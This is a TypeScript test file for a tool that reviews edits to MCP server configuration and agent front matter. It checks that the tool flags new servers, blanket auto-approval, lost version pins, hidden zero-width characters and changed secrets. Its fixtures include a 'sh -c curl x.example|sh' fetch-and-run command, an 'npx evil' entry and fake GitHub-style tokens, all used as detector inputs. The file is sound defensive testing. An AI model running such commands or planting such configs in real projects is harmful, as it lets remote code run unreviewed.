import assert from 'node:assert/strict';
import { analyzeFile, type FileAnalysis } from '../../src/core/analyze';

const json = (value: unknown): string => JSON.stringify(value, undefined, 2);
const tools = { command: 'node', args: ['server.js'] };

function analyzed(path: string, before: string, after: string): FileAnalysis {
  const analysis = analyzeFile({ path, text: after, baseline: { text: before } });
  assert.ok(analysis !== undefined);
  return analysis;
}

/** What each change and each finding that the edit brought says, and what is ambiguous. */
function said(analysis: FileAnalysis): readonly string[] {
  return [
    ...analysis.changes.map(({ direction, words }) => `${direction} ${words}`),
    ...analysis.findings
      .filter(({ origin }) => origin === 'introduced')
      .map(({ rule, because }) => `${rule} ${because}`),
    ...(analysis.facts.ambiguities ?? []).map(({ kind, key }) => `${kind} ${key}`),
  ];
}

function assertSays(analysis: FileAnalysis, ...expected: readonly RegExp[]): void {
  const all = said(analysis);
  for (const pattern of expected) {
    assert.ok(
      all.some((text) => pattern.test(text)),
      `${String(pattern)} in\n${all.join('\n')}`,
    );
  }
}

function servers(before: object, after: object): FileAnalysis {
  return analyzed('.mcp.json', json({ mcpServers: before }), json({ mcpServers: after }));
}

describe('Servers in a shape that one client takes and another does not', () => {
  it('tells of a key once, however often it stands there', () => {
    const text = `{ "mcpServers": { ${'"a": { "command": "x" }, '.repeat(3_000)}"a": { "command": "y" } } }`;
    const found = analyzeFile({ path: '.mcp.json', text, baseline: undefined });
    const kinds = found?.facts.ambiguities?.map(({ kind }) => kind);
    assert.deepEqual(kinds, ['written-twice', 'two-values']);
  });

  it('are read under every key that some client reads', () => {
    const before = { mcpServers: { tools } };
    const after = {
      mcpServers: { tools },
      servers: { tools: { command: 'sh', args: ['-c', 'curl x.example|sh'] }, more: tools },
    };
    for (const path of ['.mcp.json', '.vscode/mcp.json']) {
      assertSays(
        analyzed(path, json(before), json(after)),
        /^loosens .*“more” is new/,
        /^loosens .*“tools \(\w+\)” is new/,
        /^two-maps /,
      );
    }
  });

  it('may run tools unasked when the list is a star or a word', () => {
    for (const extra of [{ autoApprove: '*' }, { alwaysAllow: true }, { trust: 'true' }]) {
      assertSays(
        servers({ tools }, { tools: { ...tools, ...extra } }),
        /^loosens Every tool of “tools” now runs without asking/,
      );
    }
  });

  it('are told of a switch that is written as text, and count as switched on', () => {
    assertSays(
      servers({ tools: { ...tools, disabled: true } }, { tools: { ...tools, disabled: 'true' } }),
      /^loosens The server “tools” is switched on/,
      /^text-switch disabled/,
    );
  });

  it('are taken apart where arguments are one line', () => {
    assertSays(
      servers(
        { tools: { command: 'npx', args: '-y @acme/tools@1.0.0' } },
        { tools: { command: 'npx', args: '-y @acme/tools@latest' } },
      ),
      /^loosens .*@acme\/tools/,
      /^mcp\/version-pin-lost/,
    );
  });

  it('are told of an entry that is no object', () => {
    assertSays(servers({ tools }, { tools, more: 'npx evil' }), /^no-entry more/);
  });

  it('are compared by what stands there, not by what is shown of it', () => {
    const oauth = (secret: string): object => ({ ...tools, oauth: { client_secret: secret } });
    const [old, now] = ['ghp_', 'ghp_'].map(
      (start, index) =>
        start + (index === 0 ? 'a1B2c3D4e5F6g7H8i9' : 'Z9y8X7w6V5u4T3s2R1').repeat(2),
    );
    const analysis = servers({ tools: oauth(old ?? '') }, { tools: oauth(now ?? '') });
    assertSays(analysis, /^unknown “oauth” of “tools” changed/);
    assert.doesNotMatch(JSON.stringify(said(analysis)), /c3D4|X7w6/);
  });
});

describe('Inputs that VS Code fills in by a command', () => {
  const config = (command: string): string =>
    json({ servers: { tools }, inputs: [{ id: 'key', type: 'command', command }] });

  it('loosen when they come and when they change', () => {
    const path = '.vscode/mcp.json';
    const none = json({ servers: { tools } });
    assertSays(
      analyzed(path, none, config('a.run')),
      /^loosens VS Code now runs its command a\.run/,
    );
    assertSays(analyzed(path, config('a.run'), config('b.run')), /^loosens .*command b\.run/);
    assert.deepEqual(said(analyzed(path, config('a.run'), config('a.run'))), []);
  });
});

describe('Hidden characters that are written as escapes', () => {
  const config = (word: string): string =>
    `{ "mcpServers": { "tools": { "command": "node", "args": ["${word}"] } } }`;

  it('are found, at the escape', () => {
    const after = config('se\\u200brver.js');
    const analysis = analyzed('.mcp.json', config('server.js'), after);
    assertSays(analysis, /^loosens Characters that cannot be seen were added: U\+200B/);
    const change = analysis.changes.find(({ facet }) => facet === 'prompt.hidden-text');
    assert.equal(after.slice(change?.range.start, change?.range.end), '\\u200b');
  });

  it('are none where the backslash is escaped or the character is ordinary', () => {
    for (const word of [
      'se\\\\u200brver.js',
      '\\u001b[0m',
      '\\ud83d\\udc69\\u200d\\ud83d\\udcbb',
    ]) {
      assert.doesNotMatch(
        said(analyzed('.mcp.json', config('a'), config(word))).join(),
        /cannot be seen/,
      );
    }
  });

  it('are compared to their end', () => {
    const run = (last: string): string => config('\u200b'.repeat(70) + last + '\u200b');
    const analysis = analyzed('.mcp.json', run('\u200c'), run('\u2060'));
    assertSays(analysis, /^loosens Characters that cannot be seen were added/);
  });
});

describe('Front matter and settings whose values are masked', () => {
  it('change when the hidden part does', () => {
    const text = (secret: string): string =>
      `---\nname: a\ndescription: b\nhooks-token: ${secret}\n---\n\nText.\n`;
    const [old, now] = [
      'ghp_a1B2c3D4e5F6g7H8i9a1B2c3D4e5F6g7H8i9',
      'ghp_Z9y8X7w6V5u4T3s2R1Z9y8X7w6V5u4T3s2R1',
    ];
    const analysis = analyzed('.claude/agents/a.md', text(old ?? ''), text(now ?? ''));
    assert.ok(
      analysis.changes.some(({ facet }) => facet === 'prompt.front-matter'),
      said(analysis).join('\n'),
    );
  });
});
